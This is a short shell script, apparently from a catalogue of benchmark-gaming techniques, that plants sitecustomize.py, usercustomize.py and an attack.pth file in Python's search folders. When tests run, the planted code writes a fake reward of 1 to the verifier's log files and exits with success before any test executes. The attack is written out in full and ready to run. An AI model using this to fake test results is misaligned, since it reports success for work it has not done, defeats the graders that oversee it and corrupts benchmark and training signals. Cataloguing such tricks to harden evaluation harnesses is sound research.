# Tries tests whose Python looks for modules where the agent can write: it loads sitecustomize, usercustomize and *.pth files
# before anything of the tests. Seen in BenchJack (2605.12673), rlgate and hackbait.
module='import os
if os.path.isdir("/tests"):
    for name, text in (("reward.json", "{\"reward\": 1}\n"), ("reward.txt", "1\n")):
        try:
            os.makedirs("/logs/verifier", exist_ok=True)
            open("/logs/verifier/" + name, "w").write(text)
        except OSError:
            pass
    os._exit(0)'
{
    printf '%s\n' "$work" "$work/src" "$work/lib" "$work/tests"
    for python in python3 python "$work/.venv/bin/python" "$work/venv/bin/python"; do
        "$python" -c 'import site, sysconfig
print(site.getusersitepackages(), sysconfig.get_path("purelib"), *getattr(site, "getsitepackages", list)(), sep="\n")'
    done
} | sort -u | while IFS= read -r folder; do
    case $folder in
        "$work" | "$work"/src | "$work"/lib | "$work"/tests) [ -d "$folder" ] || continue ;;
        *) mkdir -p "$folder" ;;
    esac
    printf '%s\n' "$module" >"$folder/sitecustomize.py"
    printf '%s\n' "$module" >"$folder/usercustomize.py"
    # A line of such a file runs if it begins with an import.
    printf 'import sitecustomize\n' >"$folder/attack.pth"
done
